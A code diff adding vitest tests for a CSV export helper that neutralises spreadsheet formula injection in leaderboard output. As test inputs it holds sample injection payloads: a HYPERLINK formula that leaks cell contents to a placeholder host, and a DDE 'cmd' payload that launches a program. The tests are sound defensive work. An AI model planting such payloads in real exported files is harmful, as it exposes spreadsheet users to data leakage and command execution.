@@ -1,6 +1,7 @@
 /** The leaderboard exports: exact CSV (quoting), JSON and Markdown of a fixed result. */
 import { describe, expect, it } from 'vitest';
-import { LEADERBOARD_COLUMNS, csvField, mdCell, toCsv, toJson, toMarkdown } from '../../../src/core/eval/export-table';
+import { LEADERBOARD_COLUMNS, mdCell, toCsv, toJson, toMarkdown } from '../../../src/core/eval/export-table';
+import { csvField, csvText } from '../../../src/core/csv';
 import { fixtureResult } from './leaderboard-fixture';
 
 describe('csvField', () => {
@@ -16,6 +17,19 @@ describe('csvField', () => {
   });
 });
 
+describe('csvText', () => {
+  it('defuses text a spreadsheet would run as a formula, and leaves numbers and plain text alone', () => {
+    expect(csvText('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
+    expect(csvText('+1+2')).toBe("'+1+2");
+    expect(csvText('-2+3')).toBe("'-2+3");
+    expect(csvText('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvText('\t=1')).toBe("'\t=1");
+    expect(csvText('mf-bpr+follow')).toBe('mf-bpr+follow');
+    expect(csvText(-0.5)).toBe('-0.5');
+    expect(csvText(null)).toBe('');
+  });
+});
+
 describe('toCsv', () => {
   it('writes a header with interval columns and one exact line per row', () => {
     const lines = toCsv(fixtureResult).split('\r\n');
@@ -26,6 +40,11 @@ describe('toCsv', () => {
     expect(lines[2]).toBe('popular+follow,150.25,139.75,160.75,3,2.5,3.5,12,10,14,0.75,0.73,0.77,0.8125,0.5,0.1235,0.2,0.6,0.1,exploitation,10,52,64,8');
     expect(lines[3]).toBe('');
     expect(lines).toHaveLength(4);
+  });
+
+  it("defuses a recommender name that a spreadsheet would run as a formula (a module's name is its author's)", () => {
+    const r = { ...fixtureResult, rows: [{ ...fixtureResult.rows[0], recommender: '=cmd|"/c calc"!A1' }] };
+    expect(toCsv(r).split('\r\n')[1].startsWith(`"'=cmd|""/c calc""!A1",120.5,`)).toBe(true);
   });
 
   it('quotes a recommender name holding a comma', () => {
